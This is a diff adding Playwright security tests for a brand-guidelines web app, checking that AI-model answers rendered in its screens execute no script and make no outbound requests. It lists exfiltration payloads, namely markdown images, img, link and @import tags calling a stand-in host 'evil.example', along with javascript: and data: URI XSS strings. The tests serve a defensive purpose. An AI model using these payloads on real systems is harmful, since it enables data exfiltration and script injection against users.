@@ -1,0 +1,146 @@
+import type { FunctionName } from '@brandwright/domain/guidelines/results'
+import { expect, type Page } from '@playwright/test'
+import { type FunctionAnswer, sampleAnswer } from '../apps/server/src/testing/function-models.ts'
+import { makeBrand } from './support/hand-made-brand.ts'
+import { hostileMaterial, hostileStrings, inTurn } from './support/hostile-words.ts'
+import { test } from './support/model-test.ts'
+import { openScreen } from './support/open-screen.ts'
+import { signInAsSuper } from './support/super-admin.ts'
+import { liveMarkup, watchForScripts } from './support/watch-for-scripts.ts'
+
+test.skip(!hostileMaterial, 'The hostile material is not beside the repository.')
+
+const STOLEN = 'https://evil.example/?words=secret'
+const EXFILTRATION = [
+  `![a cup](${STOLEN})`,
+  `[![a cup](${STOLEN})](${STOLEN})`,
+  `![a cup][1]\n\n[1]: ${STOLEN}`,
+  `<img src="${STOLEN}">`,
+  `<link rel="prefetch" href="${STOLEN}"><style>@import "${STOLEN}"</style>`,
+  `| a |\n|---|\n| ![](${STOLEN}) |`,
+  '[press](javascript:alert(1)) <a href="javascript:alert(1)">press</a> [press](data:text/html,<script>alert(1)</script>)',
+]
+const AT_ONCE = 60
+/** Strings that are as long as books say nothing that shorter ones do not. */
+const LONGEST = 1_000
+
+const strings = () => hostileStrings().filter((text) => text.length <= LONGEST && /<|javascript:|\]\(/i.test(text))
+/** A fence that is opened would hide what follows it: such strings come last. */
+function answers(): string[] {
+  const all = [...EXFILTRATION, ...strings().filter((_, index) => index % 2 === 0)].sort((a, b) => Number(/```|~~~/.test(a)) - Number(/```|~~~/.test(b)))
+  return Array.from({ length: Math.ceil(all.length / AT_ONCE) }, (_, at) => all.slice(at * AT_ONCE, (at + 1) * AT_ONCE).join('\n\n'))
+}
+
+/** A model's result all of whose texts are such strings. */
+function spoiled(next: (most: number) => string) {
+  const spoil = (value: unknown): unknown => {
+    if (typeof value === 'string') return next(LONGEST)
+    if (Array.isArray(value)) return value.map(spoil)
+    return value && typeof value === 'object' ? Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, spoil(inner)])) : value
+  }
+  return (name: FunctionName): FunctionAnswer => {
+    if ((name as string) === 'judge_rules')
+      return { arguments: JSON.stringify({ answers: [{ rule: 1, keeps: false, words: 'luxury', why: next(LONGEST), better: next(LONGEST) }] }) }
+    return { arguments: JSON.stringify(spoil(JSON.parse((sampleAnswer(name) as { arguments: string }).arguments))) }
+  }
+}
+
+/** Whatever a hand and a mouse come over. */
+const touchAll = (page: Page, within: string) =>
+  page.locator(within).evaluateAll((parts) => {
+    for (const element of parts.flatMap((part) => [...part.querySelectorAll('*')]))
+      for (const type of ['mouseover', 'mouseenter', 'focus', 'load', 'error']) element.dispatchEvent(new Event(type, { bubbles: true }))
+  })
+
+test('the answer of a model runs nothing and calls nobody on the testing screen', { tag: '@once' }, async ({ page, context, baseURL, models }) => {
+  test.setTimeout(240_000)
+  const ran = watchForScripts(context)
+  await signInAsSuper(page, baseURL)
+  const { id } = await makeBrand(page, baseURL, { name: 'Fern Street Bakery' })
+  const found: string[] = []
+  const ask = async () => {
+    await page.getByRole('button', { name: 'Send' }).click()
+    await expect(page.getByRole('region', { name: 'Answer' }).getByText('Complete', { exact: true })).toBeVisible({ timeout: 30_000 })
+    await touchAll(page, 'main')
+    found.push(...(await liveMarkup(page)))
+  }
+  for (const [at, path] of ['/admin/:id/testing', '/admin/:id/testing/v1'].entries()) {
+    await openScreen(page, path, { id })
+    await page.getByLabel('Message', { exact: true }).fill('What does this brand sell?')
+    for (const content of answers().filter((_, index) => at === 0 || index === 0)) {
+      models.answers(() => ({ content }))
+      await ask()
+      // The words themselves are there, as words.
+      await expect(page.getByRole('region', { name: 'Answer' })).toContainText(/<|javascript:|\(|a cup/)
+    }
+    models.answers(() => ({ arguments: JSON.stringify({ text: strings().slice(0, 100) }) }))
+    await ask()
+  }
+  expect(found).toEqual([])
+  expect(ran).toEqual([])
+})
+
+test('what a model writes into the guidelines runs nothing where it is shown, to whoever it is', { tag: '@once' }, async ({
+  page,
+  context,
+  baseURL,
+  models,
+}) => {
+  test.setTimeout(240_000)
+  const ran = watchForScripts(context)
+  await signInAsSuper(page, baseURL)
+  const words = inTurn([...EXFILTRATION, ...strings()])
+  const { id, send } = await makeBrand(page, baseURL, { name: words.next(200), description: words.next(1000) })
+  const found: string[] = []
+  const look = async () => {
+    await touchAll(page, 'main, [role=dialog]')
+    found.push(...(await liveMarkup(page)))
+  }
+  models.answers(spoiled(words.next))
+  for (let round = 0; round < 2; round++) {
+    const { runId } = await send<{ runId: string }>('POST', './guidelines/generate', { refresh: true })
+    await page.request.get(`/api/runs/${runId}/events`)
+  }
+  await openScreen(page, '/admin/:id/brand-voice', { id })
+  await expect(page.getByRole('region', { name: 'Try it' })).toBeVisible()
+  await page.locator('details').evaluateAll((all) => {
+    for (const one of all as HTMLDetailsElement[]) one.open = true
+  })
+  await look()
+  for (const edit of await page.getByRole('button', { name: /^Edit (?!“)/ }).all()) {
+    await edit.click()
+    await look()
+    await page.keyboard.press('Escape')
+  }
+  await page.reload()
+  await page.getByLabel('Text to check').fill(`This luxury coffee. ${words.next(LONGEST)}`)
+  await page.getByRole('button', { name: 'Check', exact: true }).click()
+  await expect(page.getByRole('region', { name: 'Try it' }).getByText(/of 100\./)).toBeVisible()
+  await look()
+  await page.getByRole('button', { name: 'Versions', exact: true }).click()
+  await expect(page.getByRole('dialog')).toBeVisible()
+  await look()
+
+  const { link } = await send<{ link: string }>('POST', './share-links', { name: 'Shared' })
+  for (const path of [`/styleGuide/${id}`, `/admin/${id}/images`, new URL(link, baseURL).pathname]) {
+    await page.goto(path)
+    await expect(page.getByRole('heading', { level: 1 }).first(), path).toBeVisible()
+    await look()
+  }
+  expect(found).toEqual([])
+  expect(ran).toEqual([])
+})
+
+test('the watch fires: the same answers, put into a page as markup, run and call', { tag: '@once' }, async ({ page, context, provokes }) => {
+  // Whatever such markup brings about where it is markup is meant.
+  provokes(/./)
+  const ran = watchForScripts(context)
+  // Strings that lead away or write the page anew would hide what the others do.
+  const acting = strings().filter((text) => /<(?:img|svg|script|body|video|audio)\b[^>]*alert\(/i.test(text) && !/location|document\.write/i.test(text))
+  const body = `<!doctype html><title>Raw</title><img src="${STOLEN}">${acting.slice(0, 60).join('\n')}`
+  await page.route('**/raw', (route) => route.fulfill({ contentType: 'text/html', body }))
+  await page.goto('/raw')
+  await expect.poll(() => ran.filter((one) => one.startsWith('dialog')).length).toBeGreaterThan(0)
+  await expect.poll(() => ran).toContain(`request: ${STOLEN}`)
+  expect((await liveMarkup(page)).length).toBeGreaterThan(5)
+})
